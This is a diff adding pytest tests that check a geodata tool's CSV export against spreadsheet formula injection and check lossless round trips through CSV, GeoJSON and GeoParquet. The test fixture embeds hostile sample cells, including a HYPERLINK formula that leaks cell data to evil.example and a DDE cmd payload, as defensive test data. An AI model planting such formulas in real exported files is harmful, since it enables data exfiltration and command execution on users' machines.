@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import math
@@ -11,6 +12,7 @@ from typing import Any
 import geopandas as gpd
 import numpy as np
 import pandas as pd
+import pyarrow.parquet as pq
 import pytest
 from test_frame import CATALOGUE
 
@@ -19,7 +21,9 @@ from geodata.catalog import parse_catalogue
 from geodata.errors import ExportError
 from geodata.frame import events_frame
 from geodata.geocoding import OfflineGeocoder
-from geodata.io.export import csv_bytes, export_events, format_for, to_geojson
+from geodata.io.csvcells import DANGEROUS
+from geodata.io.export import csv_bytes, export_events, format_for, geojson_bytes, to_geojson
+from geodata.io.readers import parse_events_bytes, read_parquet_frame
 from geodata.model import Event
 from geodata.records import LIST_FIELDS, RECORD_FIELDS, record_event
 
@@ -136,3 +140,94 @@ def test_cli_export_bad_suffix_is_exit_2(tmp_path: Path) -> None:
     err = io.StringIO()
     assert cli.main(["export", "events.yaml", "-o", str(tmp_path / "x.txt")], out=io.StringIO(), err=err) == 2
     assert "--format" in err.getvalue()
+
+
+# --- spreadsheet safety and lossless round trips ----------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click for source")'
+RICH = (
+    CATALOGUE
+    + f"""\
+- id: d
+  type: attack
+  title: '{HYPERLINK.replace("'", "''")}'
+  summary: "-2+3 rockets, said @someone"
+  date: 2020-05-01
+  place:
+    name: "+Sydney"
+    country: AU
+    geo_precision: city
+    lat: -33.86785
+    lon: 151.20732
+    coordinate_source: GeoNames 2147714
+    location_id: geonames:2147714
+  actors: ["=cmd|' /C calc'!A0", "'=quoted already"]
+  tags: ["-5"]
+  inference: "''+two quotes"
+  source: {{publisher: "@P", title: T, url: "https://example.org/a", published: 2020-05-02, quote: Q.}}
+  references:
+    - {{publisher: "=R", title: T2, quote: "+Q2"}}
+  provenance:
+    start: 0
+    end: 10
+    fields: {{title: {{text: "=x", start: 0, end: 2, confidence: 0.5}}}}
+"""
+)
+
+
+@pytest.fixture
+def rich(tiny_geocoder: OfflineGeocoder) -> gpd.GeoDataFrame:
+    return events_frame(parse_catalogue(RICH).events, tiny_geocoder)
+
+
+def test_csv_cells_never_start_a_formula(rich: gpd.GeoDataFrame) -> None:
+    rows = list(csv.reader(io.StringIO(csv_bytes(rich).decode("utf-8"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + HYPERLINK in cells and "'-2+3 rockets, said @someone" in cells
+    assert "''=quoted already" not in cells  # inside a JSON array cell, which starts with '['
+    assert "'''+two quotes" in cells
+    for cell in cells:
+        if cell[:1] in DANGEROUS:
+            float(cell)  # only plain numbers may keep a sign in front
+    assert "-33.86785" in cells and "-77.03637" in cells  # coordinates stay numbers
+
+
+def test_the_events_read_back_from_csv_are_the_originals(
+    rich: gpd.GeoDataFrame, tiny_geocoder: OfflineGeocoder
+) -> None:
+    back = parse_events_bytes(csv_bytes(rich), name="x.csv", geocoder=tiny_geocoder).events
+    originals = parse_catalogue(RICH).events
+    for event, original in zip(back, originals, strict=True):
+        assert event.model_dump(exclude={"place", "said_at"}) == original.model_dump(
+            exclude={"place", "said_at"}
+        )
+    assert back[3].place == originals[3].place  # explicit coordinates, source and location_id kept
+
+
+@pytest.mark.parametrize("fmt", ["geojson", "csv"])
+def test_export_read_back_export_is_a_fixpoint(
+    rich: gpd.GeoDataFrame, tiny_geocoder: OfflineGeocoder, fmt: str
+) -> None:
+    write = geojson_bytes if fmt == "geojson" else csv_bytes
+    first = write(rich)
+    again = parse_events_bytes(first, name=f"events.{fmt}", geocoder=tiny_geocoder)
+    assert write(events_frame(again.events, tiny_geocoder)) == first
+    assert "geonames:2147714" in first.decode() and "site:camp-taji" in first.decode()
+
+
+def test_geoparquet_export_read_back_export_is_a_fixpoint(tmp_path: Path, rich: gpd.GeoDataFrame) -> None:
+    first = export_events(rich, tmp_path / "first.parquet")
+    second = export_events(read_parquet_frame(first), tmp_path / "second.parquet")
+    assert pq.read_table(second).equals(pq.read_table(first), check_metadata=True)
+    assert first.read_bytes() == second.read_bytes()
+
+
+def test_an_explicit_location_id_is_kept(rich: gpd.GeoDataFrame) -> None:
+    assert rich.loc["d", "location_id"] == "geonames:2147714"  # explicit point, its own entry
+    assert rich.loc["a", "location_id"] == "site:camp-taji"  # located by the gazetteer
+
+
+def test_geodata_csv_is_what_a_spreadsheet_shows_as_text(rich: gpd.GeoDataFrame) -> None:
+    table = pd.read_csv(io.BytesIO(csv_bytes(rich)), dtype=str, keep_default_na=False)
+    assert table.loc[3, "title"] == "'" + HYPERLINK  # other tools see the quote, as OWASP intends
+    assert table.loc[3, "lat"] == "-33.86785"
